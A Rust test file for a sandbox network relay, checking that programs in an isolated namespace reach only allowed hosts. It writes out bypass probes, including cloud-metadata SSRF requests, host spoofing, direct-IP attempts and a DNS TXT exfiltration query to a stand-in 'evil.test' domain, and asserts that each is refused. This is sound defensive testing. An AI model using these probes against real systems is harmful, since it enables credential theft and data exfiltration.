//! The relay in a network namespace with nothing but a loopback, and programs that run there.
//!
//! The namespace is a child of the test: `unshare`, then this very program again as [`relay_process`].
//! Programs enter it by `nsenter`. All end with the test.

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc as lines;
use std::time::{Duration, Instant};

use sandshell_agent::relay::{self, Relay, RelayConfig};
use sandshell_hub::egress::Authority;
use sandshell_testkit::skipped;
use sandshell_types::{NetworkRefused, RefusalReason};
use tokio::sync::mpsc;

use crate::world::{LONG, World, world};

/// Tells the child where the hub's socket is.
const SOCKET: &str = "SANDSHELL_TEST_RELAY_SOCKET";
/// Begins the child's own lines; the test harness has some too.
const MARK: &str = "relay: ";

/// What the child runs until its input ends; of no meaning by itself.
#[tokio::test]
#[ignore = "started by the other tests, in a network namespace"]
async fn relay_process() {
    let socket = std::env::var_os(SOCKET).expect("started by another test");
    let say = |text: &str| writeln!(std::io::stdout(), "{MARK}{text}").unwrap();
    let (sender, mut refusals) = mpsc::channel(64);
    let _relay = Relay::start(RelayConfig::new(socket.into()), move |refused| {
        sender.try_send(refused).unwrap();
    })
    .await
    .unwrap();
    say("ready");
    let mut closed = tokio::task::spawn_blocking(|| std::io::stdin().lines().count());
    loop {
        tokio::select! {
            _ = &mut closed => return,
            refused = refusals.recv() => {
                say(&serde_json::to_string(&refused.unwrap()).unwrap());
            }
        }
    }
}

/// A namespace with a relay in it.
struct Inside {
    child: Child,
    lines: lines::Receiver<String>,
}

impl Inside {
    /// None, with the reason said aloud, where no namespace can be made.
    fn start(world: &World) -> Option<Self> {
        let possible = Command::new("unshare")
            .args(["--map-root-user", "--net", "--mount", "true"])
            .output()
            .is_ok_and(|output| output.status.success());
        if !possible {
            skipped("no network namespace can be made here");
            return None;
        }
        let resolv = world.dir.path().join("resolv.conf");
        std::fs::write(&resolv, "nameserver 127.0.0.1\noptions timeout:30\n").unwrap();
        let script = "ip link set lo up && mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"";
        let mut child = Command::new("unshare")
            .args(["--map-root-user", "--net", "--mount", "sh", "-c", script])
            .arg(&resolv)
            .arg(std::env::current_exe().unwrap())
            .args([
                "--ignored",
                "--exact",
                "--nocapture",
                "inside::relay_process",
            ])
            .env(SOCKET, world.dir.path().join("proxy.sock"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let output = BufReader::new(child.stdout.take().unwrap());
        let (sender, lines) = lines::sync_channel(64);
        // Ends with its input, which ends with the child.
        std::thread::spawn(move || {
            let mut output = output.lines().map_while(Result::ok);
            output.all(|line| sender.send(line).is_ok())
        });
        let inside = Self { child, lines };
        assert_eq!(inside.line(), "ready");
        Some(inside)
    }

    fn line(&self) -> String {
        loop {
            let line = self.lines.recv_timeout(LONG).expect("the relay's word");
            // The harness's own first line may lack its end.
            if let Some(at) = line.find(MARK) {
                return line[at + MARK.len()..].to_owned();
            }
        }
    }

    fn refusal(&self) -> NetworkRefused {
        serde_json::from_str(&self.line()).unwrap()
    }

    /// A program in the namespace, with or without the variables of the proxy.
    async fn run(&self, proxied: bool, program: &str, arguments: &[&str]) -> Output {
        let mut command = tokio::process::Command::new("nsenter");
        command
            .arg(format!("--target={}", self.child.id()))
            .args(["--user", "--net", "--mount", "--preserve-credentials", "--"])
            .args(["timeout", "150", program])
            .args(arguments);
        for (name, value) in relay::environment(relay::PROXY) {
            if proxied {
                command.env(name, value);
            } else {
                command.env_remove(name);
            }
        }
        command.output().await.unwrap()
    }

    async fn curl(&self, proxied: bool, arguments: &[&str]) -> (i32, String) {
        let quiet = ["--silent", "--show-error", "--include"];
        let output = self
            .run(proxied, "curl", &[&quiet[..], arguments].concat())
            .await;
        let text = [output.stdout, output.stderr].concat();
        let text = String::from_utf8_lossy(&text).into_owned();
        (output.status.code().unwrap_or(-1), text)
    }
}

impl Drop for Inside {
    fn drop(&mut self) {
        // Its input ends, and so it does.
        drop(self.child.stdin.take());
        let _ = self.child.wait();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn programs_that_know_the_proxy() {
    let world = world(&["ok.test"], &[]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    let root = world.dir.path().join("root.pem");
    std::fs::write(&root, &world.root).unwrap();
    let root = root.to_str().unwrap();
    let (code, text) = inside.curl(true, &["http://ok.test/a"]).await;
    assert!(code == 0 && text.contains("GET /a\n"), "{text}");
    let (code, text) = inside
        .curl(true, &["--cacert", root, "https://ok.test/b"])
        .await;
    assert!(code == 0 && text.contains("GET /b\n"), "{text}");
    let socks = [
        "--socks5-hostname",
        "127.0.0.1:4021",
        "--cacert",
        root,
        "https://ok.test/c",
    ];
    let (code, text) = inside.curl(false, &socks).await;
    assert!(code == 0 && text.contains("GET /c\n"), "{text}");
    // 56: the proxy refused the tunnel.
    let (code, text) = inside.curl(true, &["https://evil.test/"]).await;
    assert!(code == 56 && text.contains("403"), "{code}: {text}");
    let refused = inside.refusal();
    assert_eq!(refused.host, "evil.test");
    assert_eq!(refused.reason, RefusalReason::HostNotAllowed);
    for metadata in [
        "http://169.254.169.254/",
        "http://2852039166/",
        "http://[fd00:ec2::254]/",
    ] {
        let (_, text) = inside.curl(true, &[metadata]).await;
        assert!(text.contains("x-sandshell-refused"), "{metadata}: {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn programs_that_know_no_proxy() {
    let world = world(&["ok.test", "ok.test:8080"], &[]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    let root = world.dir.path().join("root.pem");
    std::fs::write(&root, &world.root).unwrap();
    let (code, text) = inside.curl(false, &["http://ok.test/a"]).await;
    assert!(code == 0 && text.contains("GET /a\n"), "{text}");
    let https = ["--cacert", root.to_str().unwrap(), "https://ok.test/b"];
    let (code, text) = inside.curl(false, &https).await;
    assert!(code == 0 && text.contains("GET /b\n"), "{text}");
    let (code, text) = inside.curl(false, &["http://ok.test:8080/c"]).await;
    assert!(code == 0 && text.contains("GET /c\n"), "{text}");
    let node = "fetch('http://ok.test/n').then(r => r.text()).then(t => console.log(t))";
    let output = inside.run(false, "node", &["-e", node]).await;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.contains("GET /n\n"), "{text} {output:?}");
    // 6: no such name.
    let (code, text) = inside.curl(false, &["http://evil.test/"]).await;
    assert_eq!(code, 6, "{text}");
    let refused = inside.refusal();
    assert_eq!((refused.host.as_str(), refused.port), ("evil.test", None));
    // The name's address answers for that name alone.
    let other = [
        "--connect-to",
        "evil.test:80:ok.test:80",
        "http://evil.test/",
    ];
    let (_, text) = inside.curl(false, &other).await;
    assert!(text.contains("host_mismatch"), "{text}");
    // 7: nothing to connect to, on any way but the relay's.
    for direct in [
        "http://93.184.216.34/",
        "http://1.1.1.1/",
        "http://127.0.0.1/",
        "http://[::1]/",
    ] {
        let (code, text) = inside.curl(false, &["--max-time", "120", direct]).await;
        assert_eq!(code, 7, "{direct}: {text}");
    }
    assert!(world.names.asked().iter().all(|name| name == "ok.test"));
}

/// Programs trust the bundle by their variables, for hosts with a secret and for others alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_for_programs_that_trust_the_bundle() {
    let secret = ("ok.test", "x-api-key", "hunter2");
    let world = world(&["ok.test", "other.test"], &[secret]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    let bundle = world.dir.path().join("bundle.pem");
    let authority = world.authority.as_ref().unwrap();
    std::fs::write(&bundle, format!("{}{authority}", world.root)).unwrap();
    let python = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode())";
    let node = "fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t))";
    let settings: Vec<String> = Authority::environment(bundle.to_str().unwrap())
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    for (url, expected) in [("https://ok.test/s", true), ("https://other.test/s", false)] {
        for program in [
            &["curl", "--silent", "--show-error", url][..],
            &["python3", "-c", python, url],
            &["node", "-e", node, url],
        ] {
            let settings = settings.iter().map(String::as_str);
            let arguments: Vec<&str> = settings.chain(program.iter().copied()).collect();
            let output = inside.run(true, "env", &arguments).await;
            let text = String::from_utf8_lossy(&output.stdout).into_owned();
            assert!(text.contains("GET /s\n"), "{program:?}: {text} {output:?}");
            // The server of the tests gives back what it got: the proxy put it in.
            assert_eq!(
                text.contains("x-api-key: hunter2\n"),
                expected,
                "{program:?}"
            );
        }
    }
}

/// Sends datagrams and asks the resolver by hand; prints what came of it, line by line.
const DATAGRAMS: &str = r#"
import socket, struct
def ask(name, kind, tcp=False):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l)
    message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    if tcp:
        s = socket.create_connection(("127.0.0.1", 53), 120)
        s.sendall(struct.pack(">H", len(message)) + message)
        answer = s.makefile("rb").read(struct.unpack(">H", s.recv(2, socket.MSG_WAITALL))[0])
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(120)
        s.sendto(message, ("127.0.0.1", 53))
        answer = s.recv(2000)
    assert answer[:2] == message[:2]
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0], answer[-4:]
print("a", ask("ok.test", 1)); print("case", ask("Ok.TEST", 1)); print("tcp", ask("ok.test", 1, True))
print("aaaa", ask("ok.test", 28)[:2]); print("txt", ask("ok.test", 16)[:2]); print("https", ask("ok.test", 65)[:2])
print("evil", ask("evil.test", 1)[:2]); print("wild", ask("a.b.wild.test", 1)[:2])
print("long", ask(".".join(["x" * 60] * 3) + ".evil.test", 1)[:2])
print("exfil-txt", ask("c2VjcmV0.evil.test", 16)[:2])
for where in [("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80), ("224.0.0.251", 5353)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"x", where); print("udp sent", where)
    except OSError as error:
        print("udp refused", error.errno)
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn datagrams_and_the_resolver() {
    let world = world(&["ok.test", "*.wild.test"], &[]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    let output = inside.run(false, "python3", &["-c", DATAGRAMS]).await;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let expected = "a (0, 1, b'\\x7fS\\x00\\x01')\ncase (0, 1, b'\\x7fS\\x00\\x01')\n\
        tcp (0, 1, b'\\x7fS\\x00\\x01')\naaaa (0, 0)\ntxt (0, 0)\nhttps (0, 0)\nevil (3, 0)\n\
        wild (0, 1)\nlong (3, 0)\nexfil-txt (0, 0)\nudp refused 101\nudp refused 101\n\
        udp refused 101\nudp refused 101\n";
    assert_eq!(
        text,
        expected,
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    // Not one question went on to the world's resolver.
    assert!(world.names.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hub_that_is_started_again_is_found_again() {
    let mut world = world(&["ok.test"], &[]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    for turn in 0..3 {
        let (code, text) = inside.curl(true, &["http://ok.test/"]).await;
        assert!(code == 0 && text.contains("GET /\n"), "{turn}: {text}");
        world.restart(&["ok.test"]).await;
    }
    // Refusals are heard again too, once the relay has come back for them.
    let deadline = Instant::now() + LONG;
    while world.egress.stats().connections == 0 {
        assert!(Instant::now() < deadline, "the relay came back");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    inside.curl(true, &["http://evil.test/"]).await;
    assert_eq!(inside.refusal().host, "evil.test");
}

/// More clients than there are places: all are served, one after the other.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn many_connections() {
    let world = world(&["ok.test:2525", "ok.test"], &[]).await;
    let Some(inside) = Inside::start(&world) else {
        return;
    };
    let many = r#"
import socket
held = [socket.create_connection(("127.0.0.1", 4021), 120) for _ in range(250)]
for one in held: one.sendall(b"CONNECT ok.test:2525 HTTP/1.1\r\nHost: ok.test:2525\r\n\r\n")
for one in held: assert b" 200 " in one.recv(100)
more = [socket.create_connection(("127.0.0.1", 4021), 120) for _ in range(100)]
for one in more: one.sendall(b"GET http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
for one in held: one.close()
for one in more: assert b" 200 " in one.recv(100)
print("all served")
"#;
    let output = inside.run(false, "python3", &["-c", many]).await;
    let errors = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        String::from_utf8_lossy(&output.stdout),
        "all served\n",
        "{errors}"
    );
    assert_eq!(world.egress.stats().refused, 0);
}
